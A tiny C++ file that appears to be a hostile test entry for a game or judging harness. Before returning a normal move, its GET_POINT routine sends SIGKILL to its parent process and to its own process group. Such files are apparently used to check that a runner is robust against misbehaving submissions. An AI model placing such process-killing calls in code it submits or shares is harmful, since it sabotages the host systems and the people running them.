// Signals whoever started it, and the group that it is in, and plays on if it can.
#include <csignal>
#include <unistd.h>

#include "innocent.h"

GET_POINT {
    kill(getppid(), SIGKILL);
    kill(0, SIGKILL);
    return leftmost(N, top);
}
CLEAR_POINT { delete p; }
